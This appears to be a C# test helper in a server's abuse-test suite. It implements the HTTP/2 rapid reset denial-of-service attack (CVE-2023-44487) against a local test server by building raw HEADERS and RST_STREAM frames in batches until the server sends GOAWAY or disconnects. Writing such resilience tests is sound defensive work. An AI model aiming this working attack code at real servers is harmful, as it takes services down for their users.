using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;
using SigmaShake.Server.Testing;

namespace SigmaShake.Server.Tests.Abuse;

/// <summary>HTTP/2 (RFC 9113), as much of it as the attack needs that is known as rapid reset (CVE-2023-44487).</summary>
internal static class RapidResets
{
    private const byte Headers = 1;
    private const byte RstStream = 3;
    private const byte Settings = 4;
    private const byte GoAway = 7;
    private const byte EndOfStreamAndHeaders = 5;
    private const int StreamsInOneWrite = 100;

    // Cancel (RFC 9113, 7).
    private static readonly byte[] Cancel = [0, 0, 0, 8];

    /// <summary>Opens streams and resets each at once, until the server hangs up or so many were opened; how many were.</summary>
    public static async Task<int> RunAsync(ServerProcess server, SelfMade certificate, int most)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        await socket.ConnectAsync(IPAddress.Loopback, new Uri(server.Address).Port, TestContext.Current.CancellationToken);
        await using var tls = new SslStream(new NetworkStream(socket), leaveInnerStreamOpen: false);
        await tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions { TargetHost = "localhost", ApplicationProtocols = [SslApplicationProtocol.Http2], CertificateChainPolicy = certificate.Trust }, TestContext.Current.CancellationToken);
        Assert.Equal(SslApplicationProtocol.Http2, tls.NegotiatedApplicationProtocol);
        var over = WatchAsync(tls);
        await tls.WriteAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])], TestContext.Current.CancellationToken);
        var opened = 0;
        try
        {
            while (opened < most && !over.IsCompleted)
            {
                using var batch = new MemoryStream();
                for (var i = 0; i < StreamsInOneWrite; i++, opened++)
                {
                    batch.Write(Frame(Headers, EndOfStreamAndHeaders, (2 * opened) + 1, Request));
                    batch.Write(Frame(RstStream, 0, (2 * opened) + 1, Cancel));
                }

                await tls.WriteAsync(batch.ToArray(), TestContext.Current.CancellationToken);
            }
        }
        catch (IOException)
        {
            // It hung up while we were writing.
        }

        return opened;
    }

    // Literal fields, none of them indexed (RFC 7541, 6.2.2).
    private static byte[] Request => [.. Field(":method", "GET"), .. Field(":scheme", "https"), .. Field(":path", "/sign-in/x"), .. Field(":authority", "localhost")];

    private static byte[] Field(string name, string value) => [0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    // Until the server says goodbye, or hangs up.
    private static async Task WatchAsync(SslStream tls)
    {
        var head = new byte[9];
        try
        {
            while (true)
            {
                await tls.ReadExactlyAsync(head, TestContext.Current.CancellationToken);
                await tls.ReadExactlyAsync(new byte[BinaryPrimitives.ReadInt32BigEndian(head) >> 8], TestContext.Current.CancellationToken);
                if (head[3] == GoAway) return;
            }
        }
        catch (IOException)
        {
            // It hung up.
        }
    }
}
